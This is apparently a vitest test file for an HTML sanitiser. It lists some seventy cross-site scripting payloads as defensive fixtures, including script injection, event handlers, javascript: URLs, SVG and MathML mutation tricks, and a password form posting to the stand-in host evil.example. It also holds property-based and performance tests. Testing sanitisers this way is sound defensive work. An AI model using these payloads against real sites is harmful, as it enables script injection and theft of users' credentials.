import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { effort } from '#test/effort.ts';
import { withWhatGoes } from './clean.testing.ts';
import { cleanHtml } from './clean.ts';
import { fromPlainText } from './from-text.ts';

type Node = DefaultTreeAdapterTypes.ChildNode;
type Element = DefaultTreeAdapterTypes.Element;

const ALLOWED = new Set('p br strong em s u code pre blockquote ul ol li a h3'.split(' '));

/** Parses as a browser would, inside the page it will stand in, and says everything that should not be there. */
function problems(html: string): string[] {
  const page = parseFragment(`<ol><li><article><div title="box">${html}</div><footer></footer></article></li></ol>`);
  const found: string[] = [];
  const article = child(child(page.childNodes[0], 0), 0);
  const box = child(article, 0);
  if (page.childNodes.length !== 1) found.push('something left the page');
  if (box?.tagName !== 'div' || box.attrs[0]?.value !== 'box') found.push('the box is gone');
  if (child(article, -1)?.tagName !== 'footer' || article?.childNodes.length !== 2)
    found.push('something left the box');
  for (const node of box?.childNodes ?? []) walk(node, found);
  return found;
}

function child(node: Node | undefined, index: number): Element | undefined {
  return node && 'childNodes' in node ? (node.childNodes.at(index) as Element | undefined) : undefined;
}

function walk(node: Node, found: string[]): void {
  if (node.nodeName === '#text') return;
  if (!('tagName' in node)) {
    found.push(node.nodeName);
    return;
  }
  if (!ALLOWED.has(node.tagName)) found.push(`<${node.tagName}>`);
  if (node.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${node.tagName}> of ${node.namespaceURI}`);
  for (const { name, value } of node.attrs) {
    const fine = name === 'href' ? /^(https?:\/\/[^/@]+(\/|$)|mailto:)/.test(value) : value === 'noopener nofollow ugc';
    if (node.tagName !== 'a' || !['href', 'rel'].includes(name) || !fine) found.push(`${name}="${value}"`);
  }
  if (node.tagName === 'a' && node.attrs.length !== 2) found.push('a link without href and rel');
  for (const inner of node.childNodes) walk(inner, found);
}

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/sign-out">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:/\\evil.example/">x</a>',
  '<a href="https://portal.example@evil.example/">x</a>',
  '<a href="https://fine.example/" target=_top ping=//evil.example download style="position:fixed">x</a>',
  '<a href="https://fine.example/"><a href="javascript:alert(1)">x</a></a>',
  '<a href=https://fine.example/ rel=opener>x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; *{display:none}</style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<form action=//evil.example><input name=password><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<iframe src=javascript:alert(1)></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=x.swf></object><embed src=x>',
  '<turbo-stream action=append target=main><template><script>alert(1)</script></template></turbo-stream>',
  '<turbo-frame id=main src=//evil.example></turbo-frame>',
  '<p data-turbo-method=delete data-controller=editor data-action="click->editor#send" id=main class=button name=body>x</p>',
  '<a href="https://fine.example/" data-turbo-method=delete data-turbo-frame=_top>x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<xmp><script>alert(1)</script></xmp><listing>&lt;script&gt;</listing><plaintext><b>x',
  '<title></title><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>',
  '<select><option><script>alert(1)</script></select>',
  '<table><tr><td><p>cell</table>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '&amp;lt;script&amp;gt;',
  '<p title="`><img src=x onerror=alert(1)>`">x</p>',
  "<p/onclick='alert(1)'/x>y",
  '<p\u0000 onclick=alert(1)>x</p><scr\u0000ipt>alert(1)</script>',
  '\u0000\u0008\ud800<p>half</p>\udfff',
  '</div></article></li></ol></main></body></html><p>out</p>',
  '<li>one<li>two</li></ul></li>',
  '<ul><li>a<div><li>b</ul><li>c',
  '<li></li>'.repeat(20),
  '<blockquote>'.repeat(400),
  '<ul><li>'.repeat(300),
  '<a href=https://fine.example/><ul><li><a href=https://fine.example/>x<p></a></ul></a>',
  '<strong><p><em></strong><ul></em></p><li>x',
  '<dialog open><details open ontoggle=alert(1)><summary>x</summary></details></dialog>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>',
  '<body onload=alert(1)><html manifest=//evil.example><frameset onload=alert(1)>',
  '<custom-element onconnected=alert(1) is=x-y>x</custom-element>',
];

describe('cleanHtml', () => {
  it.each(attacks.map((attack) => [attack.slice(0, 90), attack]))('disarms %j', (_name, attack = '') => {
    expect(problems(cleanHtml(attack))).toEqual([]);
    expect(problems(cleanHtml(`<ul><li>${attack}</li></ul>after`))).toEqual([]);
    expect(problems(fromPlainText(attack))).toEqual([]);
  });

  it('would be seen to fail: the same judge condemns the attacks as they are', () => {
    const armed = attacks.filter((attack) => problems(attack).length > 0);
    expect(armed.length).toBeGreaterThan(attacks.length - 10);
    expect(problems('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')).toEqual([]);
  });

  it('disarms any soup of tags, and cleaning twice changes nothing', () => {
    const names =
      'p br strong em s u code pre blockquote ul ol li a h3 div b i table td svg math style script form select';
    const name = fc.constantFrom(...names.split(' '));
    const opening = fc
      .tuple(name, fc.constantFrom('', ' href="https://fine.example/?a=1&b=2"', ' onclick=x', ' id="x'))
      .map(([tag, attribute]) => `<${tag}${attribute}>`);
    const piece = fc.oneof(
      opening,
      name.map((tag) => `</${tag}>`),
      fc.constantFrom('text', '&amp;lt;', '<', '"', '<!--'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const once = cleanHtml(pieces.join(''));
        expect(problems(once)).toEqual([]);
        expect(cleanHtml(once)).toBe(once);
      }),
      { numRuns: 3000 },
    );
  });

  it('leaves what follows an element that goes outside it', () => {
    fc.assert(fc.property(withWhatGoes, ({ html, without }) => void expect(cleanHtml(html)).toBe(cleanHtml(without))));
    expect(cleanHtml('<p><a href="javascript:x">sec</a>, <a href="https://a.example/">own</a>, tail</p>')).toBe(
      '<p>sec, <a href="https://a.example/" rel="noopener nofollow ugc">own</a>, tail</p>',
    );
    const deep = `${'<blockquote>'.repeat(24)}<div>a</div><b>b</b>c`;
    expect(cleanHtml(deep)).toContain('>abc</blockquote>');
  });

  it('keeps what people write in the editor', () => {
    const written =
      '<h3>Plan</h3><p>A <strong>bold</strong>, <em>slanted</em>, <s>struck</s> <u>line</u><br />and <code>code</code></p>' +
      '<ul><li><p>one</p></li><li><p>two</p><ol><li><p>nested</p></li></ol></li></ul><blockquote><p>quote</p></blockquote>' +
      '<pre><code>if (a &lt; b &amp;&amp; c) {}\n  x();</code></pre>';
    expect(cleanHtml(written)).toBe(written);
  });

  it('turns what other programs write into the same few elements', () => {
    expect(cleanHtml('<h1>T</h1><div>a <b>b</b> <i>c</i> <strike>d</strike></div>')).toBe(
      '<h3>T</h3><p>a <strong>b</strong> <em>c</em> <s>d</s></p>',
    );
    expect(cleanHtml('<p>one</p><p></p><p><br></p>')).toBe('<p>one</p>');
    expect(cleanHtml('<br><p></p>one')).toBe('one');
  });

  it('gives links what keeps them from helping the one who wrote them', () => {
    expect(cleanHtml('<a href="HTTPS://Example.com/a b?x=1&y=2" target=_blank>x</a>')).toBe(
      '<a href="https://example.com/a%20b?x=1&amp;y=2" rel="noopener nofollow ugc">x</a>',
    );
    expect(cleanHtml('<a href="mailto:maya@northwind.studio">x</a>')).toContain('href="mailto:maya@northwind.studio"');
    expect(cleanHtml('<a href="/tickets/1">only words</a>')).toBe('only words');
  });

  it.each([
    ['open elements', '<div>'.repeat(100_000)],
    ['closing tags without a beginning', '<div>'.repeat(50_000) + '</b>'.repeat(50_000)],
    ['lists in lists', '<ul><li>'.repeat(60_000)],
    ['angle brackets', '<'.repeat(300_000)],
    ['comments', '<!--'.repeat(100_000)],
    ['attributes', `<p ${'a=b '.repeat(100_000)}>`],
    ['line breaks', '<br>'.repeat(9_999)],
    ['the most tags that are parsed', '<div>'.repeat(5_000) + '</b>'.repeat(4_999)],
  ])('takes no more than a moment for very many %s', (_what, html) => {
    const spent = effort();
    expect(problems(cleanHtml(html)).length).toBe(0);
    expect(spent()).toBeLessThan(1500);
  });
});
